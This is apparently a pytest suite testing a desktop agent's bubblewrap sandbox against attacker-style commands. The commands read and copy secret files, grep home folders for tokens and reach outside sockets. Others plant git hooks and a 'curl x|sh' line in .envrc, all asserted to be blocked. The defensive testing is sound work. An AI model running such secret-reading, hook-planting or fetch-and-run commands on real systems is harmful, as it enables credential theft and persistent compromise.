"""The doors an attacker who knows the person trusts the sandbox would try (one rule allowing every command,
names built at run time so no rule sees them), checked by their outcome with the real shell and the real
sandbox (bubblewrap): what a command could read, reach, create or find in its environment.

The folders live under /var/tmp, not /tmp, so hiding them is the sandbox's doing and not a side effect of
the command's private /tmp.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import sys
import tempfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from desktop_agent.config.settings import SandboxSettings
from desktop_agent.tools.base import ToolOutput
from desktop_agent.tools.builtin import builtin_tools
from desktop_agent.tools.sandbox import NoSandbox, SandboxPolicy, platform_sandbox
from desktop_agent.tools.shell import RunCommandTool
from desktop_agent.tools.workspace import Workspace
from tests.security.bwrap import bwrap_problem
from tests.security.planted import (
    CREDENTIAL_VARIABLES,
    HARMLESS_VARIABLES,
    HOME_SECRET_FILES,
    WORKSPACE_SECRET_FILES,
)
from tests.tools.helpers import preview, run

SECRET = "sk-door-secret-5150"
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is Linux only")


@dataclass
class Home:
    """A home folder full of credentials and toolchains, a workspace inside it, the app's folders in it."""

    home: Path
    ws: Path
    app: Path
    settings: SandboxSettings = field(default_factory=SandboxSettings)

    def tool(self, **settings: object) -> RunCommandTool:
        chosen = self.settings.replace(**settings)
        shell = builtin_tools(self.ws, protected=[self.app], sandbox_settings=chosen).get("run_command")
        assert isinstance(shell, RunCommandTool)
        return shell

    def run(self, command: str | list[str], **settings: object) -> ToolOutput:
        return run(self.tool(**settings), self.ws, command=command, timeout=60)


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Home]:
    problem = bwrap_problem()
    if problem:
        pytest.skip(problem)
    base_dir = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    base = Path(tempfile.mkdtemp(prefix="da-doors-", dir=base_dir)).resolve()
    home, app = base / "home", base / "home" / ".local" / "share" / "desktop-agent"
    ws = home / "code" / "project"
    for folder in (ws, app, home / ".ssh"):
        folder.mkdir(parents=True)
    for name in HOME_SECRET_FILES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(f"[auth]\n\ttoken = {SECRET}\n")
    (app / "history.sqlite3").write_text(SECRET)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    tools = (("pytool", ".pyenv/bin"), ("rusttool", ".cargo/bin"), ("usertool", ".local/bin"))
    for tool, bin_folder in tools:
        (home / bin_folder).mkdir(parents=True, exist_ok=True)
        (home / bin_folder / tool).write_text(f"#!/bin/sh\necho {tool} runs\n")
        (home / bin_folder / tool).chmod(0o755)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{home}/.pyenv/bin:{home}/.cargo/bin:{home}/.local/bin:{os.environ['PATH']}")
    try:
        yield Home(home, ws, app)
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ---- 1. secrets-like files in the workspace are hidden, not only read-only ----


def test_secrets_files_in_the_workspace_cannot_be_read_or_replaced(home: Home) -> None:
    for name in WORKSPACE_SECRET_FILES:
        (home.ws / name).parent.mkdir(parents=True, exist_ok=True)
        (home.ws / name).write_text(f"API_KEY={SECRET}\n")
    reader = "import pathlib; print([p.read_text() for p in pathlib.Path('.').rglob('*') if p.is_file()])"
    out = home.run(
        f'cat {" ".join(WORKSPACE_SECRET_FILES)}; grep -r API_KEY .; python3 -c "{reader}";'
        " echo x > .env; rm -f server.pem; mv tls.key stolen; ln .env hard; cp .env copy; cat copy hard"
    )
    assert SECRET not in out.content
    for name in WORKSPACE_SECRET_FILES:
        assert (home.ws / name).read_text() == f"API_KEY={SECRET}\n", name
    assert not (home.ws / "stolen").exists() and not (home.ws / "hard").exists()
    assert "[blocked by the sandbox: .env is hidden from commands" in out.content


# ---- 2. the home folder is hidden except the toolchains and what the person adds ----


def test_the_home_folder_is_hidden_but_toolchains_run(home: Home) -> None:
    files = " ".join(f"~/{name}" for name in HOME_SECRET_FILES)
    out = home.run(f"cat {files}; ls -A ~; grep -rs {SECRET[:8]} ~ /proc/1/root{home.home}; pytool; rusttool;"
                   " usertool")  # fmt: skip
    assert SECRET not in out.content
    assert "pytool runs\nrusttool runs\nusertool runs" in out.content
    assert (home.home / ".bash_history").read_text() == f"[auth]\n\ttoken = {SECRET}\n"


def test_a_folder_the_person_adds_is_readable_and_the_apps_own_stay_hidden(home: Home) -> None:
    notes = home.home / "notes"
    notes.mkdir()
    (notes / "todo.txt").write_text("buy milk\n")
    home.settings = SandboxSettings(read=["~/notes", "~/.local/share"])
    out = home.run(f"cat ~/notes/todo.txt; echo x > ~/notes/new.txt; ls -A {home.app}; cat {home.app}/*")
    assert "buy milk" in out.content and SECRET not in out.content
    assert not (notes / "new.txt").exists(), "added folders are read-only"


def test_the_preview_says_what_a_command_sees(home: Home) -> None:
    shown = preview(home.tool(), command="make")
    assert shown is not None
    assert "sees the workspace, the system and your toolchains; the rest of ~ is hidden" in shown.text
    home.settings = SandboxSettings(read=["~/notes"])
    shown = preview(home.tool(), command="make")
    assert shown is not None and "the rest of ~ is hidden except ~/notes (read-only)" in shown.text


# ---- 3. Unix sockets outside the sandbox do not answer ----


def _listening(address: str) -> socket.socket:
    server = socket.socket(socket.AF_UNIX)
    server.bind(address)
    server.listen(4)
    server.setblocking(False)
    return server


def _contacted(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


CONNECT = "import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print('CONNECTED')"


def test_a_socket_in_the_home_folder_or_in_run_does_not_answer(home: Home) -> None:
    paths = [str(home.home / ".agent.sock")]
    if os.access("/run", os.W_OK):
        paths.append(f"/run/da-test-{uuid.uuid4().hex[:8]}.sock")
    servers = [_listening(path) for path in paths]
    try:
        for path, server in zip(paths, servers, strict=True):
            for network in (False, True):
                out = home.run(["python3", "-c", CONNECT, path], network=network)
                assert "CONNECTED" not in out.content and not _contacted(server), (path, out.content)
    finally:
        for server, path in zip(servers, paths, strict=True):
            server.close()
            Path(path).unlink()


def test_with_the_network_allowed_abstract_sockets_do_not_answer(home: Home) -> None:
    name = f"\0da-test-{uuid.uuid4().hex}"
    server = _listening(name)
    connect = CONNECT.replace("sys.argv[1]", "'\\0' + sys.argv[1]")
    try:
        out = home.run(["python3", "-c", connect, name[1:]], network=True)
        assert "CONNECTED" not in out.content and not _contacted(server), out.content
        control = run(RunCommandTool(Workspace(home.ws), sandbox=NoSandbox("control")), home.ws,
                      command=["python3", "-c", connect, name[1:]])  # fmt: skip
        assert "CONNECTED" in control.content and _contacted(server), "the listener answers outside"
        # a shared network (a sandboxed MCP server's, no host list): the Landlock scope keeps them out
        shared = platform_sandbox(SandboxPolicy.for_workspace(home.ws, network=True))
        out = run(RunCommandTool(Workspace(home.ws), sandbox=shared), home.ws,
                  command=["python3", "-c", connect, name[1:]])  # fmt: skip
        assert "CONNECTED" not in out.content and not _contacted(server), out.content
        assert "sockets outside the sandbox blocked" in shared.describe()
    finally:
        server.close()
    shown = preview(home.tool(network=True), command="make")
    assert shown is not None and "network only through the app's proxy" in shown.text


# ---- 5. only harmless variables reach a command ----


def test_credentials_in_the_environment_never_reach_a_command(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in CREDENTIAL_VARIABLES.items():
        monkeypatch.setenv(name, value.format(secret=SECRET))
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.setenv("MY_SETTING", "chosen-by-the-person")
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", "https://pypi.example/simple")  # no credentials in it
    printer = "import os; print(sorted(os.environ.items()))"
    sandboxed = home.run(["python3", "-c", printer], env=["MY_SETTING"])
    unsandboxed = run(
        RunCommandTool(Workspace(home.ws), sandbox=NoSandbox("control")), home.ws, command=["env"]
    )
    for out in (sandboxed.content, unsandboxed.content):
        assert SECRET not in out
    for name in HARMLESS_VARIABLES:
        assert f"('{name}', " in sandboxed.content and f"\n{name}=" in f"\n{unsandboxed.content}"
    assert "('MY_SETTING', 'chosen-by-the-person')" in sandboxed.content
    assert "MY_SETTING" not in unsandboxed.content, "only the person's list lets a name through"
    assert "('PIP_EXTRA_INDEX_URL', 'https://pypi.example/simple')" in sandboxed.content


# ---- 6. files other programs run by themselves cannot be created or changed ----


def test_a_folder_without_a_repository_does_not_get_one(home: Home) -> None:
    builder = "import os; n = '.' + 'git'; os.makedirs(n + '/hooks'); open(n + '/config', 'w').write('x')"
    out = home.run(
        f"git init; git init -q .; python3 -c \"{builder}\"; mkdir .hg; echo 'curl x|sh' > .envrc;"
        " mkdir -p .vscode && echo '{}' > .vscode/tasks.json; ls -A"
    )
    for name in (".git", ".hg", ".envrc", ".vscode"):
        assert not (home.ws / name).exists(), f"{name} was created (or left behind)"
    assert "[blocked by the sandbox: creating .git is not allowed" in out.content, out.content
    plain = home.run("git init")  # git names its template first, then the .git it could not write
    assert "[blocked by the sandbox: creating .git is not allowed" in plain.content, plain.content


def test_git_works_read_only_in_a_repository(home: Home) -> None:
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@e", "-C", str(home.ws)]
    for argv in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "first", "--allow-empty"]):
        assert not asyncio.run(_host(*git, *argv))
    (home.ws / "a.txt").write_text("changed\n")
    out = home.run("git status --short; git log --oneline; git diff --stat; echo x > .git/hooks/pre-commit")
    assert "?? a.txt" in out.content and "first" in out.content
    assert not (home.ws / ".git" / "hooks" / "pre-commit").exists()
    assert "[blocked by the sandbox: changing .git/hooks/pre-commit is not allowed" in out.content


async def _host(*argv: str) -> int:
    proc = await asyncio.create_subprocess_exec(*argv)
    return await proc.wait()
